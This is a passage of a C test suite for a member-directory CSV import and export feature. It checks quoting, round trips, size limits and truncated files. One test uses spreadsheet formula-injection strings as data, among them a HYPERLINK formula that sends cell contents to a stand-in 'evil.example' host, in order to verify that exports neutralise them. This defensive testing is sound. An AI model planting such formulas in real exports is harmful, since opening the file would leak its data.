  hc_member_set_field (dev, "custom.badge", "42");
  hc_member_set_field (dev, "end_date", "2030-01-31");

  g_ptr_array_add (members, boss);
  g_ptr_array_add (managers, NULL);
  g_ptr_array_add (members, quiet);
  g_ptr_array_add (managers, boss);
  g_ptr_array_add (members, dev);
  g_ptr_array_add (managers, quiet);  /* a manager without e-mail: by name */
  g_ptr_array_add (members, gone);
  g_ptr_array_add (managers, dev);
  g_assert_true (hc_store_add_members (store, members, managers, &error));
  g_assert_no_error (error);

  return hc_store_list_members (store, &error);
}

static char *
export_to_string (GPtrArray *members,
                  int        state,
                  char       separator,
                  guint     *n)
{
  g_autoptr (GOutputStream) memory = g_memory_output_stream_new_resizable ();
  g_autoptr (GError) error = NULL;

  g_assert_true (hc_member_csv_export (memory, members, state, separator, HC_CSV_WRITER_NONE, n, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (memory, "", 1, NULL, NULL, &error));
  g_assert_true (g_output_stream_close (memory, NULL, &error));

  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (memory));
}

static void
test_export (Fixture      *f,
             gconstpointer data)
{
  g_autoptr (GPtrArray) members = seed_tricky_members (f->store);
  g_autofree char *all = NULL;
  g_autofree char *archived = NULL;
  g_autofree char *empty = NULL;
  g_autofree char *header = NULL;
  guint n = 0;

  all = export_to_string (members, -1, ',', &n);
  g_assert_cmpuint (n, ==, 4);
  header = g_strconcat (HC_MEMBER_CSV_EXPORT_HEADER, ",custom.badge,custom.cost_center\r\n", NULL);
  g_assert_true (g_str_has_prefix (all, header));
  g_assert_nonnull (strstr (all, "\r\nzoe@example.fr,Zoé,Leïla-Brontë,Zozo,\"Directrice, \"\"générale\"\"\","
                            "Direction,\"Équipe \"\"A\"\"\",\"Paris\r\nLa Défense\",,E1,2019-03-01,,"
                            "active,managed,true,,\"CC, 1\"\r\n"));
  g_assert_nonnull (strstr (all, "\r\n,Ønd,Ærø,,Sans e-mail,,,,zoe@example.fr,,,,active,manual,false,,\r\n"));
  g_assert_nonnull (strstr (all, "\r\nchloe@example.fr,Chloé,Dupont; Martin,,\"Dev\nsenior\",,,,Ønd Ærø,E2,,"
                            "2030-01-31,invited,manual,true,42,\r\n"));

  /* One state; the manager is named even when it is not exported. */
  archived = export_to_string (members, HC_MEMBER_STATE_ARCHIVED, ';', &n);
  g_assert_cmpuint (n, ==, 1);
  g_assert_cmpstr (archived, ==,
                   "email;first_name;last_name;preferred_name;title;department;team;office;"
                   "manager;employee_id;start_date;end_date;state;hr_status;has_access\r\n"
                   "old@example.org;Old;Timer;;;;;;chloe@example.fr;;;;archived;previously_managed;true\r\n");

  g_ptr_array_set_size (members, 0);
  empty = export_to_string (members, -1, ',', &n);
  g_assert_cmpuint (n, ==, 0);
  g_assert_cmpstr (empty, ==, HC_MEMBER_CSV_EXPORT_HEADER "\r\n");
}

/* No exported cell starts a formula (rules.md 34), and the import reads
 * every value back as it was. */
static void
test_export_formulas (Fixture      *f,
                      gconstpointer data)
{
  g_autoptr (HcMember) link = hc_test_member ("0||evil@example.org|=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")|"
                                              "@SUM(1+1)*cmd|active|manual");
  g_autoptr (HcMember) phone = hc_test_member ("0||phone@example.org|Ann|Lee|active|manual");
  g_autoptr (HcMember) blank = hc_test_member ("0||blank@example.org|Bo|Kay|active|manual");
  g_autoptr (GPtrArray) members = g_ptr_array_new ();
  g_autoptr (GPtrArray) stored = NULL;
  g_autoptr (HcCsvReader) reader = NULL;
  g_autoptr (HcMemberCsvImport) import = NULL;
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *text = NULL;
  HcCsvRecord *record;
  guint n = 0;

  hc_member_set_field (phone, "title", "+33 1 23 45 67 89");
  hc_member_set_field (phone, "department", "-5");
  hc_member_set_field (phone, "custom.note", "'=already quoted");
  hc_member_set_field (blank, "team", "\tTabbed");
  hc_member_set_field (blank, "office", "\rCarriage");
  g_ptr_array_add (members, link);
  g_ptr_array_add (members, phone);
  g_ptr_array_add (members, blank);
  g_assert_true (hc_store_add_members (f->store, members, NULL, &error));
  g_assert_no_error (error);
  stored = hc_store_list_members (f->store, &error);
  g_assert_no_error (error);

  text = export_to_string (stored, -1, ';', &n);
  g_assert_cmpuint (n, ==, 3);
  g_assert_nonnull (strstr (text, "evil@example.org;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Click\"\")\";"
                            "'@SUM(1+1)*cmd;"));
  g_assert_nonnull (strstr (text, "phone@example.org;Ann;Lee;;'+33 1 23 45 67 89;'-5;"));
  g_assert_nonnull (strstr (text, ";''=already quoted\r\n"));
  g_assert_nonnull (strstr (text, "blank@example.org;Bo;Kay;;;;'\tTabbed;\"'\rCarriage\";"));

  /* Every cell, read as a spreadsheet would. */
  reader = hc_csv_reader_new_for_data (text, -1, 0);
  while ((record = hc_csv_reader_next (reader, NULL, &error)) != NULL)
    {
      for (guint c = 0; c < record->n_fields; c++)
        g_assert_false (record->fields[c][0] != '\0' && strchr ("=+-@\t\r", record->fields[c][0]) != NULL);
      hc_csv_record_free (record);
    }
  g_assert_no_error (error);

  import = import_data (text, -1, 0, &error);
  g_assert_no_error (error);
  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 3);
  {
    HcMember *back_link = row_at (preview, 0)->member;
    HcMember *back_phone = row_at (preview, 1)->member;
    HcMember *back_blank = row_at (preview, 2)->member;

    g_assert_cmpstr (hc_member_get_first_name (back_link), ==, "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")");
    g_assert_cmpstr (hc_member_get_last_name (back_link), ==, "@SUM(1+1)*cmd");
    g_assert_cmpstr (hc_member_get_title (back_phone), ==, "+33 1 23 45 67 89");
    g_assert_cmpstr (hc_member_get_department (back_phone), ==, "-5");
    g_assert_cmpstr (hc_member_get_field (back_phone, "custom.note"), ==, "'=already quoted");
    /* The import trims spaces, tabs and line breaks around values, as ever. */
    g_assert_cmpstr (hc_member_get_field (back_blank, "team"), ==, "Tabbed");
    g_assert_cmpstr (hc_member_get_field (back_blank, "office"), ==, "Carriage");
  }
}

static void
compare_members (HcMember *a,
                 HcMember *b)
{
  static const char * const fields[] = {
    "email", "first_name", "last_name", "preferred_name", "title", "department", "team",
    "office", "start_date", "end_date", "custom.cost_center", "custom.badge",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (fields); i++)
    g_assert_cmpstr (hc_member_get_field (a, fields[i]), ==, hc_member_get_field (b, fields[i]));
  g_assert_cmpstr (hc_member_get_external_id (a), ==, hc_member_get_external_id (b));
  g_assert_cmpint (hc_member_get_state (a), ==, hc_member_get_state (b));
  g_assert_cmpint (hc_member_get_has_access (a), ==, hc_member_get_has_access (b));
}

static HcMember *
find_same (GPtrArray *members,
           HcMember  *like)
{
  for (guint i = 0; i < members->len; i++)
    {
      HcMember *member = g_ptr_array_index (members, i);

      if (g_strcmp0 (hc_member_get_first_name (member), hc_member_get_first_name (like)) == 0)
        return member;
    }

  return NULL;
}

/* Export, then import into another workspace: everything survives. */
static void
test_round_trip (gconstpointer data)
{
  char separator = GPOINTER_TO_INT (data);
  Fixture a = { 0 }, b = { 0 };
  g_autoptr (GPtrArray) source = NULL;
  g_autoptr (GPtrArray) copied = NULL;
  g_autoptr (HcMemberCsvImport) import = NULL;
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *text = NULL;
  guint n = 0;

  fixture_set_up (&a, NULL);
  fixture_set_up (&b, NULL);

  source = seed_tricky_members (a.store);
  text = export_to_string (source, -1, separator, &n);
  import = import_data (text, -1, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpint (hc_member_csv_import_get_separator (import), ==, separator);
  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_rejected, ==, 0);
  g_assert_cmpuint (preview->n_warnings, ==, 0);
  g_assert_true (hc_member_csv_preview_apply (preview, b.store, FALSE, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 4);

  copied = hc_store_list_members (b.store, &error);
  g_assert_cmpuint (copied->len, ==, source->len);
  for (guint i = 0; i < source->len; i++)
    {
      HcMember *original = g_ptr_array_index (source, i);
      HcMember *copy = find_same (copied, original);
      HcMember *original_manager = find_by_id (source, hc_member_get_manager_id (original));
      HcMember *copy_manager = find_by_id (copied, hc_member_get_manager_id (copy));

      g_assert_nonnull (copy);
      compare_members (original, copy);
      /* Imported members are manual, whatever they were. */
      g_assert_cmpint (hc_member_get_hr_status (copy), ==, HC_HR_STATUS_MANUAL);
      if (original_manager == NULL)
        g_assert_null (copy_manager);
      else
        g_assert_cmpstr (hc_member_get_first_name (copy_manager), ==, hc_member_get_first_name (original_manager));
    }

  g_clear_pointer (&source, g_ptr_array_unref);
  g_clear_pointer (&copied, g_ptr_array_unref);
  g_clear_pointer (&preview, hc_member_csv_preview_free);
  fixture_tear_down (&a, NULL);
  fixture_tear_down (&b, NULL);
}

/* 10,000 members, each managed by the one before, generated here. */
static void
test_import_many (Fixture      *f,
                  gconstpointer data)
{
  g_autoptr (GString) text = g_string_new ("E-mail;Prénom;Nom;Poste;Manager\r\n");
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMemberCsvImport) import = NULL;
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GPtrArray) stored = NULL;
  guint n = 0;

  for (guint i = 0; i < 10000; i++)
    {
      g_string_append_printf (text, "person%u@example.org;Zoé %u;\"Dupont; %u\";\"Dev\nlevel %u\";", i, i, i, i % 5);
      if (i > 0)
        g_string_append_printf (text, "PERSON%u@example.org", i - 1);
      g_string_append (text, "\r\n");
    }
  /* And one duplicate at the end, on line 2 + 2 × 10000. */
  g_string_append (text, "person0@example.org;Again;Zero;;\r\n");

  import = import_data (text->str, text->len, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (hc_member_csv_import_get_n_records (import), ==, 10001);
  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_lines, ==, 10001);
  g_assert_cmpuint (preview->n_new, ==, 10000);
  g_assert_cmpuint (preview->n_rejected, ==, 1);
  /* It shows the first new members and every rejected line, not all. */
  g_assert_cmpuint (preview->rows->len, ==, HC_MEMBER_CSV_PREVIEW_LINES + 1);
  g_assert_cmpuint (row_at (preview, HC_MEMBER_CSV_PREVIEW_LINES)->line, ==, 20002);
  g_assert_cmpuint (row_at (preview, HC_MEMBER_CSV_PREVIEW_LINES)->duplicate_of, ==, 2);
  g_assert_cmpuint (row_at (preview, HC_MEMBER_CSV_PREVIEW_LINES - 1)->line, ==, 2 * HC_MEMBER_CSV_PREVIEW_LINES);
  g_assert_nonnull (row_at (preview, 5)->manager);
  g_assert_cmpstr (hc_member_get_email (row_at (preview, 5)->manager), ==, "person4@example.org");

  g_assert_false (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
  g_assert_error (error, HC_ERROR, HC_ERROR_PARSE);
  g_clear_error (&error);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 0);

  g_assert_true (hc_member_csv_preview_apply (preview, f->store, TRUE, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 10000);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 10000);

  stored = hc_store_list_members (f->store, &error);
  for (guint i = 1; i < 10000; i += 997)
    {
      g_autofree char *email = g_strdup_printf ("person%u@example.org", i);
      g_autofree char *manager_email = g_strdup_printf ("person%u@example.org", i - 1);
      HcMember *member = find_by_email (stored, email);

      g_assert_nonnull (member);
      g_assert_cmpint (hc_member_get_manager_id (member), ==,
                       hc_member_get_id (find_by_email (stored, manager_email)));
    }
}

/* A field or a line over the reader's limits fails the import, naming the
 * line and the limit (rules.md 35). */
static void
test_import_limits (void)
{
  g_autoptr (GString) big_field = g_string_new ("email,first_name\na@example.org,A\nb@example.org,");
  g_autoptr (GString) big_line = g_string_new ("email,first_name,last_name,title,department,team,office,"
                                               "custom.a,custom.b,custom.c,custom.d,custom.e,custom.f\r\n");
  g_autoptr (HcMemberCsvImport) import = NULL;
  g_autoptr (GError) error = NULL;

  for (guint i = 0; i < 150000; i++)
    g_string_append_c (big_field, 'b');
  g_string_append (big_field, "\nc@example.org,C\n");
  import = import_data (big_field->str, big_field->len, 0, &error);
  g_assert_null (import);
  g_assert_error (error, HC_CSV_ERROR, HC_CSV_ERROR_FIELD_TOO_LONG);
  g_assert_true (g_str_has_prefix (error->message, "Line 3: a field is longer than 100.0\u00a0kB"));
  g_clear_error (&error);

  g_string_append (big_line, "a@example.org");
  for (guint f = 1; f < 13; f++)
    {
      g_string_append_c (big_line, ',');
      for (guint i = 0; i < 90000; i++)
        g_string_append_c (big_line, 'x');
    }
  g_string_append (big_line, "\r\n");
  import = import_data (big_line->str, big_line->len, 0, &error);
  g_assert_null (import);
  g_assert_error (error, HC_CSV_ERROR, HC_CSV_ERROR_LINE_TOO_LONG);
  g_assert_true (g_str_has_prefix (error->message, "Line 2: the line is longer than 1.0\u00a0MB"));
}

/* A stream that cannot seek (a pipe) is copied aside: the preview and the
 * apply still read it again. */
static void
test_import_unseekable (Fixture      *f,
                        gconstpointer data)
{
  static const char text[] = "E-mail;Prénom;Manager\r\nana@example.org;Ana;\r\nbob@example.org;Bob;ana@example.org\r\n";
  g_autoptr (GInputStream) memory = g_memory_input_stream_new_from_data (text, -1, NULL);
  g_autoptr (GConverter) converter = G_CONVERTER (g_charset_converter_new ("UTF-8", "UTF-8", NULL));
  g_autoptr (GInputStream) stream = g_converter_input_stream_new (memory, converter);
  g_autoptr (HcMemberCsvImport) import = NULL;
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GPtrArray) stored = NULL;
  g_autoptr (GError) error = NULL;
  guint n = 0;

  g_assert_false (G_IS_SEEKABLE (stream) && g_seekable_can_seek (G_SEEKABLE (stream)));
  import = hc_member_csv_import_new_from_stream (stream, 0, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (hc_member_csv_import_get_n_records (import), ==, 2);
  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 2);
  g_assert_true (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 2);
  stored = hc_store_list_members (f->store, &error);
  g_assert_cmpint (hc_member_get_manager_id (find_by_email (stored, "bob@example.org")), ==,
                   hc_member_get_id (find_by_email (stored, "ana@example.org")));
  /* The rows shown have their ids and managers, as stored. */
  g_assert_cmpint (hc_member_get_id (row_at (preview, 1)->member), ==,
                   hc_member_get_id (find_by_email (stored, "bob@example.org")));
  g_assert_cmpint (hc_member_get_manager_id (row_at (preview, 1)->member), ==,
                   hc_member_get_id (find_by_email (stored, "ana@example.org")));
}

/* A file cut in the middle of a quoted field: a clear error, nothing
 * imported; a file that changes between the preview and the apply: nothing
 * imported either. */
static void
test_import_truncated (Fixture      *f,
                       gconstpointer data)
{
  g_autoptr (GString) text = g_string_new ("email,first_name,title\n");
  g_autofree char *path = g_build_filename (f->dir, "members.csv", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GFileInputStream) stream = NULL;
  g_autoptr (HcMemberCsvImport) import = NULL;
  g_autoptr (HcMemberCsvPreview) preview = NULL;
  g_autoptr (GError) error = NULL;
  guint n = 0;
  FILE *out;

  for (guint i = 0; i < 3000; i++)
    g_string_append_printf (text, "p%u@example.org,P %u,\"Dev, level %u\"\n", i, i, i % 4);
  g_string_append (text, "last@example.org,Last,\"Dev, lev");
  import = import_data (text->str, text->len, 0, &error);
  g_assert_null (import);
  g_assert_error (error, HC_CSV_ERROR, HC_CSV_ERROR_UNTERMINATED_QUOTE);
  g_assert_cmpstr (error->message, ==, "Line 3002: a quoted field starts here and its closing quote is missing");
  g_clear_error (&error);

  /* Whole, then cut once the preview is made. */
  g_string_append (text, "el 9\"\n");
  g_assert_true (g_file_set_contents (path, text->str, text->len, &error));
  stream = g_file_read (file, NULL, &error);
  g_assert_no_error (error);
  import = hc_member_csv_import_new_from_stream (G_INPUT_STREAM (stream), 0, NULL, &error);
  g_assert_no_error (error);
  preview = hc_member_csv_import_preview (import, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (preview->n_new, ==, 3001);
  out = fopen (path, "w");  /* the same file, cut: the open stream sees it */
  g_assert_nonnull (out);
  fwrite (text->str, 1, text->len / 2, out);
  fclose (out);
  g_assert_false (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
  g_assert_nonnull (error);
  g_test_message ("%s", error->message);
  g_assert_cmpuint (n, ==, 0);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 0);
  g_assert_cmpint (hc_member_get_id (row_at (preview, 0)->member), ==, 0);
}

/* hc_store_add_members: all or nothing. */
static void
test_store_add_members_rollback (Fixture      *f,
                                 gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcMember) a = hc_test_member ("0||a@example.org|A|One|active|manual");
  g_autoptr (HcMember) b = hc_test_member ("0||b@example.org|B|Two|active|manual");
  g_autoptr (HcMember) stranger = hc_test_member ("0||s@example.org|S|Three|active|manual");
  g_autoptr (HcMember) ghost = hc_test_member ("999999||g@example.org|G|Host|active|manual");
  g_autoptr (GPtrArray) members = g_ptr_array_new ();
  g_autoptr (GPtrArray) managers = g_ptr_array_new ();

  g_ptr_array_add (members, a);
  g_ptr_array_add (members, b);
  g_ptr_array_add (managers, NULL);
  g_ptr_array_add (managers, stranger);   /* neither stored nor added */
  g_assert_false (hc_store_add_members (f->store, members, managers, &error));
  g_assert_error (error, HC_ERROR, HC_ERROR_STORE);
  g_clear_error (&error);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 0);
  g_assert_cmpint (hc_member_get_id (a), ==, 0);
  g_assert_cmpint (hc_member_get_id (b), ==, 0);

  g_ptr_array_index (managers, 1) = ghost;  /* an id the store does not have */
  g_assert_false (hc_store_add_members (f->store, members, managers, &error));
  g_assert_error (error, HC_ERROR, HC_ERROR_STORE);
  g_clear_error (&error);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 0);
  g_assert_cmpint (hc_member_get_id (a), ==, 0);

  g_ptr_array_index (managers, 1) = a;
  g_assert_true (hc_store_add_members (f->store, members, managers, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 2);
  g_assert_cmpint (hc_member_get_manager_id (b), ==, hc_member_get_id (a));
  g_assert_cmpstr (hc_member_get_manager_name (b), ==, "A One");

  /* Without managers. */
  g_ptr_array_set_size (members, 0);
  g_ptr_array_add (members, stranger);
  g_assert_true (hc_store_add_members (f->store, members, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 3);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/member-csv/guess", test_guess);
  g_test_add_func ("/member-csv/guess-export-header", test_guess_export_header);
  g_test_add_func ("/member-csv/field-is-valid", test_field_is_valid);
  g_test_add_func ("/member-csv/mapping", test_mapping);
  g_test_add_func ("/member-csv/import/emails", test_import_emails);
  g_test_add_func ("/member-csv/import/values", test_import_values);
  g_test_add_func ("/member-csv/import/fatal", test_import_fatal);
  g_test_add_func ("/member-csv/import/limits", test_import_limits);
#define ADD(path, func) g_test_add ((path), Fixture, NULL, fixture_set_up, (func), fixture_tear_down)
  ADD ("/member-csv/import/english", test_import_english);
  ADD ("/member-csv/import/french", test_import_french);
  ADD ("/member-csv/import/all-or-nothing", test_import_all_or_nothing);
  ADD ("/member-csv/import/existing", test_import_existing);
  ADD ("/member-csv/import/managers", test_import_managers);
  ADD ("/member-csv/import/header-only", test_import_header_only);
  ADD ("/member-csv/import/10000-rows", test_import_many);
  ADD ("/member-csv/import/unseekable", test_import_unseekable);
  ADD ("/member-csv/import/truncated", test_import_truncated);
  ADD ("/member-csv/export", test_export);
  ADD ("/member-csv/export/formulas", test_export_formulas);
  ADD ("/member-csv/store/add-members-rollback", test_store_add_members_rollback);
#undef ADD
  g_test_add_data_func ("/member-csv/round-trip/comma", GINT_TO_POINTER (','), test_round_trip);
  g_test_add_data_func ("/member-csv/round-trip/semicolon", GINT_TO_POINTER (';'), test_round_trip);

  return g_test_run ();
}
